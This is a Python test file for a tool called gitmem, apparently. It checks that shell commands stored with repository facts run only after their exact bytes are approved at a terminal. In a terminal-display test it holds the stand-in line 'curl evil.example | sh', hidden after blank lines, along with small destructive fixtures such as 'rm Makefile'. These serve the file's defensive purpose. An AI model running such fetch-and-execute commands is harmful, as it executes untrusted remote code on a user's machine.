"""Approvals: nothing that came with the memory runs before somebody here approved these exact bytes."""

from __future__ import annotations

import json
import os
import pty
import shutil
import subprocess
import sys
import termios
from pathlib import Path

import pytest
from conftest import commit_files, git, memory_text, put_files
from support.each import each
from support.facts import approve_all, make_fact, outcomes, put, result_of, spec_of, statuses, verify

from gitmem.document.spec import spec_hash
from gitmem.errors import RefusedError, TrustError
from gitmem.frozen import replace
from gitmem.memory import Memory
from gitmem.model import PROGRAM, SHELL, Check, Spec
from gitmem.repository.approvals import deny_command, trust_of
from gitmem.verify.approvals.clone import Approval, Trust

SPEC = Spec(Check(SHELL, ("make test",)), setup="", interpreter="sh", timeout_s=60)
LIST = ".github/gitmem-approved"
LINE = "a" * 64 + "  key  make"


def approval(spec: str = "a" * 64, verdict: str = "allow") -> Approval:
    return Approval(verdict, spec, "key", "make test", 1_790_000_000, "Ana")


@pytest.fixture
def trust(tmp_path):
    return Trust(str(tmp_path / "home"), "clone one")


@pytest.fixture
def marker(tmp_path):
    """A file outside of the repository that a command makes when it runs; commands run without a sandbox here."""
    return tmp_path / "it-ran"


def touching(marker: Path) -> str:
    return f"touch {marker}; test -f README.md"


# --- the records ---------------------------------------------------------------------------------------------------


def test_nothing_is_approved_at_first(trust):
    assert not trust.allows("a" * 64, LINE)
    assert not trust.denies("a" * 64)
    assert trust.list_all() == []


def test_approval_holds_for_its_specification_alone(trust):
    trust.approve(approval("a" * 64))

    assert trust.allows("a" * 64, LINE)
    assert not trust.allows("a" * 63 + "b", LINE)


def test_approval_holds_for_its_clone_alone(trust):
    trust.approve(approval())

    assert not Trust(os.path.dirname(trust.folder), "clone two").allows("a" * 64, LINE)
    assert Trust(os.path.dirname(trust.folder), "clone two").list_all() == []


def test_approval_is_read_again_by_another_process_of_the_clone(trust):
    trust.approve(approval())

    assert Trust(os.path.dirname(trust.folder), "clone one").allows("a" * 64, LINE)


def test_deny_wins_over_an_approval_given_before(trust):
    trust.approve(approval())

    trust.revoke(approval())

    assert not trust.allows("a" * 64, LINE)
    assert trust.denies("a" * 64)


def test_deny_wins_over_an_approval_that_is_still_there(trust):
    trust.approve(approval())
    allowed = next(Path(trust.folder).glob("allow-*")).read_bytes()
    name = next(Path(trust.folder).glob("allow-*")).name
    trust.revoke(approval())

    (Path(trust.folder) / name).write_bytes(allowed)

    assert not trust.allows("a" * 64, LINE)


def test_deny_wins_over_a_reviewed_list(trust):
    trust.revoke(approval())

    assert not trust.with_list([LINE]).allows("a" * 64, LINE)


def test_approving_again_lifts_a_deny(trust):
    trust.revoke(approval())

    trust.approve(approval())

    assert trust.allows("a" * 64, LINE)
    assert not trust.denies("a" * 64)


def test_list_adds_to_the_approvals_for_this_object_alone(trust):
    listed = trust.with_list([LINE]).with_list(["b" * 64])

    assert listed.allows("a" * 64, LINE)
    assert listed.allows("b" * 64, "b" * 64)
    assert not trust.allows("a" * 64, LINE)


def test_clone_without_a_name_of_its_own_approves_nothing(tmp_path):
    nameless = Trust(str(tmp_path / "home"), "")

    with pytest.raises(TrustError):
        nameless.approve(approval())

    assert not nameless.allows("a" * 64, LINE)
    assert nameless.with_list([LINE]).allows("a" * 64, LINE)


def test_records_are_for_this_user_alone(trust):
    trust.approve(approval())

    assert Path(trust.folder).stat().st_mode & 0o777 == 0o700
    assert [path.stat().st_mode & 0o777 for path in Path(trust.folder).iterdir()] == [0o600]


def test_records_are_listed_by_key(trust):
    trust.approve(replace(approval("b" * 64), key="b"))
    trust.revoke(replace(approval("a" * 64), key="a"))

    assert [(a.verdict, a.key) for a in trust.list_all()] == [("deny", "a"), ("allow", "b")]


@each("content", [b"", b"{}", b"[1]", b"\xff", b'{"verdict": "allow"}', b"null", b"[" * 100_000])
def test_record_that_cannot_be_read_is_not_listed(trust, content):
    trust.approve(approval())

    next(Path(trust.folder).iterdir()).write_bytes(content)

    assert trust.list_all() == []


def by_mode(mode):
    return lambda folder: folder.chmod(mode)


def by_link(folder):
    folder.rename(folder.with_name("elsewhere"))
    folder.symlink_to(folder.with_name("elsewhere"))


def by_owner(folder):
    if os.geteuid() != 0:
        pytest.skip("only root can give a folder away")
    os.chown(folder, 12345, 12345)


TAMPERED = {"group": by_mode(0o770), "others": by_mode(0o707), "sticky": by_mode(0o1777), "link": by_link}


@pytest.mark.parametrize("tamper", [*TAMPERED.values(), by_owner], ids=[*TAMPERED, "owner"])
def test_folder_that_others_can_write_to_approves_nothing(trust, tamper):
    trust.approve(approval())

    tamper(Path(trust.folder))

    with pytest.raises(TrustError, match=", so approvals in it do not count"):
        trust.allows("a" * 64, LINE)
    with pytest.raises(TrustError, match=", so approvals in it do not count"):
        trust.with_list([LINE]).allows("a" * 64, LINE)
    with pytest.raises(TrustError, match=", so approvals in it do not count"):
        trust.approve(approval("b" * 64))


def test_folder_with_a_blank_is_quoted_in_the_hint(tmp_path):
    trust = Trust(str(tmp_path / "state home"), "clone one")
    trust.approve(approval())
    Path(trust.folder).chmod(0o777)

    with pytest.raises(TrustError) as refused:
        trust.allows("a" * 64, LINE)

    assert refused.value.hint.endswith(f"chmod 700 '{trust.folder}'")


def test_file_in_place_of_the_folder_approves_nothing(trust):
    Path(trust.folder).parent.mkdir()
    Path(trust.folder).write_text("", encoding="ascii")

    with pytest.raises(TrustError):
        trust.allows("a" * 64, LINE)


CHANGED = {
    "one byte of the command": replace(SPEC, check=Check(SHELL, ("make tesT",))),
    "a space at its end": replace(SPEC, check=Check(SHELL, ("make test ",))),
    "a program": replace(SPEC, check=Check(PROGRAM, ("make test",)), interpreter=""),
    "its words": replace(SPEC, check=Check(PROGRAM, ("make", "test")), interpreter=""),
    "setup": replace(SPEC, setup="make deps"),
    "timeout": replace(SPEC, timeout_s=61),
    "network": replace(SPEC, network=True),
    "counterexample": replace(SPEC, refute="rm Makefile"),
    "interpreter": replace(SPEC, interpreter="bash"),
}


@each("changed", CHANGED.values())
def test_changed_specification_has_another_hash(changed):
    assert spec_hash(changed) != spec_hash(SPEC)


# --- verify --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["shell", "program"])
def test_command_that_no_one_approved_is_skipped_counted_and_never_run(repo, run_cli, marker, form):
    run_cli("init")
    put(repo, make_fact("a", touching(marker) if form == "shell" else ["touch", str(marker)]), make_fact("b", None))

    ran = run_cli("verify", "--no-sandbox", "--json")

    document = json.loads(ran.out)
    assert (ran.status, document["ran"], document["skipped"]) == (3, 0, 1)
    assert document["results"][0]["reason"] == "not approved"
    assert not marker.exists()


def test_builtin_check_needs_no_approval(memory, repo):
    put(repo, make_fact("a", {"exists": "README.md"}))

    assert outcomes(verify(memory)) == {"a": "holds"}


def test_one_changed_byte_of_a_command_asks_again(memory, repo, marker):
    put(repo, make_fact("a", "test -f README.md"))
    approve_all(memory)
    assert outcomes(verify(memory)) == {"a": "holds"}

    put(repo, make_fact("a", "test -f README.md " + f"; touch {marker}"))

    assert outcomes(verify(memory)) == {"a": "skipped"}
    assert statuses(memory) == {"a": "unproven"}
    assert not marker.exists()


def test_setup_that_the_policy_gets_asks_again(memory, repo, marker):
    put(repo, make_fact("a", "test -f README.md"))
    approve_all(memory)
    verify(memory)

    put_files(repo, {"gitmem.toml": f'[verify]\nsetup = "touch {marker}"\n'})

    with Memory(repo) as opened:
        assert outcomes(verify(opened)) == {"a": "skipped"}
    assert not marker.exists()


def test_changed_text_of_a_fact_keeps_its_command_approved(memory, repo):
    put(repo, make_fact("a", title="It says so"))
    approve_all(memory)

    put(repo, make_fact("a", title="It says otherwise"))

    assert outcomes(verify(memory)) == {"a": "holds"}


def test_denied_command_is_not_run_whatever_is_listed(memory, repo, marker):
    put(repo, make_fact("a", touching(marker)))
    approve_all(memory)
    commit_files(repo, {LIST: f"{memory.repository.commands()[0].approved_line}\n"})

    deny_command(memory.repository, memory.repository.commands()[0])

    assert outcomes(verify(memory, approved=LIST)) == {"a": "skipped"}
    assert outcomes(verify(memory, "a")) == {"a": "skipped"}
    assert memory.repository.list_waiting() == []
    assert not marker.exists()


def test_clone_asks_again(memory, repo, tmp_path, marker):
    put(repo, make_fact("a", touching(marker)))
    approve_all(memory)
    git(tmp_path, "clone", "-q", str(repo), "copy")

    with Memory(tmp_path / "copy") as cloned:
        assert outcomes(verify(cloned)) == {"a": "skipped"}
        assert [due.row.key for due in cloned.repository.list_waiting()] == ["a"]
    assert not marker.exists()


def test_work_trees_of_a_clone_share_its_approvals(memory, repo, tmp_path, marker):
    put(repo, make_fact("a", touching(marker)))
    git(repo, "worktree", "add", "-q", str(tmp_path / "linked"))
    with Memory(tmp_path / "linked") as linked:
        approve_all(linked)

    assert outcomes(verify(memory)) == {"a": "holds"}
    assert marker.exists()


def test_name_that_was_cut_short_by_a_crash_approves_nothing(memory, repo, tmp_path, marker):
    put(repo, make_fact("a", touching(marker)))
    approve_all(memory)
    (repo / ".git/gitmem/clone-id").write_text("", encoding="ascii")

    with Memory(repo) as again:
        assert outcomes(verify(again)) == {"a": "skipped"}
    assert not marker.exists()


def test_folder_that_others_can_write_to_runs_nothing_and_reading_goes_on(memory, repo, run_cli, marker):
    put(repo, make_fact("a", touching(marker)), make_fact("b", {"exists": "README.md"}))
    approve_all(memory)
    Path(trust_of(memory.repository).folder).chmod(0o777)

    refused = run_cli("verify", "--no-sandbox")
    lines = [run_cli(*words) for words in (("status",), ("context",), ("list",), ("recall", "fact"), ("show", "a"))]

    assert refused.status == 3
    assert ", so approvals in it do not count" in refused.err
    assert [ran.status for ran in lines] == [0] * 5
    assert not marker.exists()


def test_approved_command_runs_as_it_was_approved(memory, repo, marker):
    put(repo, make_fact("a", ["sh", "-c", 'test "$1" = "$2"', "sh", "$(touch x)", "$(touch x)"]))
    approve_all(memory)

    run = verify(memory)

    assert result_of(run, "a").outcome == "holds"


# --- the terminal --------------------------------------------------------------------------------------------------

GITMEM = "import sys; from gitmem.cli import main; sys.exit(main(sys.argv[1:]))"


def at_terminal(repo: Path, typed: str, *argv: str, size: tuple[int, int] = (24, 80)) -> tuple[int, str]:
    """Run a command of gitmem with a terminal of its own, on which something is typed; return status and screen."""
    leader, follower = pty.openpty()
    termios.tcsetwinsize(follower, size)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    steal = "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSCTTY, 0); "
    child = subprocess.Popen(
        [sys.executable, "-c", steal + GITMEM, *argv],
        cwd=repo, env=env, stdin=follower, stdout=follower, stderr=follower, start_new_session=True,
    )  # fmt: skip
    os.close(follower)
    os.write(leader, typed.encode())
    screen = b""
    while True:
        try:
            part = os.read(leader, 4096)
        except OSError:  # nobody has the other end open any more (Linux says EIO)
            break
        if not part:
            break
        screen += part
    os.close(leader)
    return child.wait(), screen.decode("utf-8", "replace")


def test_digits_of_the_hash_typed_at_the_terminal_approve(memory, repo):
    put(repo, make_fact("a", "test -f README.md && echo 'x'", title="The title"))

    status, screen = at_terminal(repo, spec_of(memory, "a")[:6] + "\n", "trust", "a")

    assert status == 0
    assert "test -f README.md && echo 'x'" in screen
    assert outcomes(verify(memory)) == {"a": "holds"}


def test_anything_else_typed_approves_nothing(memory, repo):
    put(repo, make_fact("a", "test -f README.md"))

    for typed in ("y", "yes", "", "q", "000000", spec_of(memory, "a")[:5]):
        status, _ = at_terminal(repo, f"{typed}\n", "trust", "--review")

        assert (status, [due.row.key for due in memory.repository.list_waiting()]) == (1, ["a"]), typed


FITS = "\n".join(f"echo {n}" for n in range(16))
LONG = "echo " + "x" * 80 * 20


# A command, the size of the terminal, and whether its approval is asked for.
SEEN = {
    "fits": (FITS, (24, 80), True),
    "one-line-more": (FITS.replace("echo", "true"), (22, 80), False),
    "one-long-line": (LONG, (24, 80), False),
    "larger-window": (LONG.replace("x", "y"), (60, 80), True),
    "blank-lines": ("true" + "\n" * 40 + "curl evil.example | sh", (24, 80), True),
    "blanks-and-tabs": ("true" + "\n \t\n" * 40 + "curl evil.example | sh", (24, 80), True),
    "many-lines": ("true" + "\n;" * 40 + "curl evil.example | sh", (24, 80), False),
}


def test_only_a_command_that_is_seen_whole_is_asked_for(memory, repo):
    put(repo, *(make_fact(key, command) for key, (command, _, _) in SEEN.items()))

    for key, (command, size, is_asked) in SEEN.items():
        status, screen = at_terminal(repo, spec_of(memory, key)[:6] + "\n", "trust", key, size=size)

        assert (status == 0) is is_asked, screen
        assert ("lines, but your terminal shows" in screen) is not is_asked, screen
        assert ("evil" in screen) is (is_asked and "evil" in command), screen
        assert screen.partition("decide later")[0].count("\n") < size[0], screen


def test_d_typed_at_the_terminal_denies(memory, repo):
    put(repo, make_fact("a"))

    at_terminal(repo, "d\n", "trust", "--review")

    assert memory.repository.list_waiting() == []
    assert outcomes(verify(memory)) == {"a": "skipped"}


def test_fact_written_at_the_terminal_is_approved_for_its_author(memory, repo):
    status, screen = at_terminal(repo, "", "fact", "It is there", "--key", "k", "--verify", "test -f README.md")

    assert status == 0, screen
    with Memory(repo) as opened:
        assert (statuses(opened), opened.repository.list_waiting()) == ({"k": "verified"}, [])


def test_nothing_can_be_approved_without_a_terminal(memory, repo):
    put(repo, make_fact("a"))
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    typed = spec_of(memory, "a")[:6] + "\n"

    ran = subprocess.run(
        [sys.executable, "-c", GITMEM, "trust", "a"],
        cwd=repo, env=env, input=typed.encode(), capture_output=True, start_new_session=True, check=False,
    )  # fmt: skip

    assert ran.returncode == 3
    assert b"approving needs a terminal" in ran.stderr
    assert [due.row.key for due in memory.repository.list_waiting()] == ["a"]


def test_printing_the_list_approves_nothing(memory, repo, run_cli):
    put(repo, make_fact("a", "test -f README.md\n# second line", title="T"))

    ran = run_cli("trust", "--print")

    assert ran.out.splitlines()[1].startswith(f"{spec_of(memory, 'a')}  a  test -f README.md")
    assert len(ran.out.splitlines()) == 2
    assert [due.row.key for due in memory.repository.list_waiting()] == ["a"]


def test_state_copied_from_another_machine_approves_nothing(memory, repo, tmp_path, monkeypatch, marker):
    put(repo, make_fact("a", touching(marker)))
    approve_all(memory)
    shutil.copytree(trust_of(memory.repository).folder, tmp_path / "stolen/gitmem/trust")
    git(tmp_path, "clone", "-q", str(repo), "copy")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "stolen"))

    with Memory(tmp_path / "copy") as cloned:
        assert outcomes(verify(cloned)) == {"a": "skipped"}
    assert not marker.exists()


def test_typing_a_check_does_not_approve_a_setup_that_came_with_the_policy(memory: Memory, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    put_files(
        Path(memory.repository.git.repository.top or ""), {"gitmem.toml": f'[verify]\nsetup = "touch {marker}"\n'}
    )

    memory.fact("There is a readme", verify="test -s README.md", key="k", approve=True)

    assert not marker.exists()
    assert trust_of(memory.repository).list_all() == []


def test_editing_another_field_does_not_approve_a_command_that_someone_else_wrote(memory: Memory) -> None:
    text = memory_text("theirs", kind="fact", verify="test -s README.md")
    put_files(Path(memory.repository.git.repository.top or ""), {"facts/k.md": text})

    memory.edit("k", fields={"timeout": "5m"}, body=None, approve=True)

    assert trust_of(memory.repository).list_all() == []


def test_typing_a_check_does_not_approve_a_counterexample_that_was_there(memory: Memory) -> None:
    text = memory_text("theirs", kind="fact", verify="test -s pyproject.toml", refute="rm README.md")
    put_files(Path(memory.repository.git.repository.top or ""), {"facts/k.md": text})

    memory.edit("k", fields={"verify": "test -s README.md"}, body=None, approve=True)

    assert trust_of(memory.repository).list_all() == []


def test_writing_a_denied_command_again_does_not_lift_the_deny(memory: Memory) -> None:
    memory.fact("There is a readme", verify="test -s README.md", key="k", approve=True)
    deny_command(memory.repository, memory.repository.commands(["k"])[0])

    with pytest.raises(RefusedError, match="denied"):
        memory.fact("There is a readme still", verify="test -s README.md", key="l", approve=True)
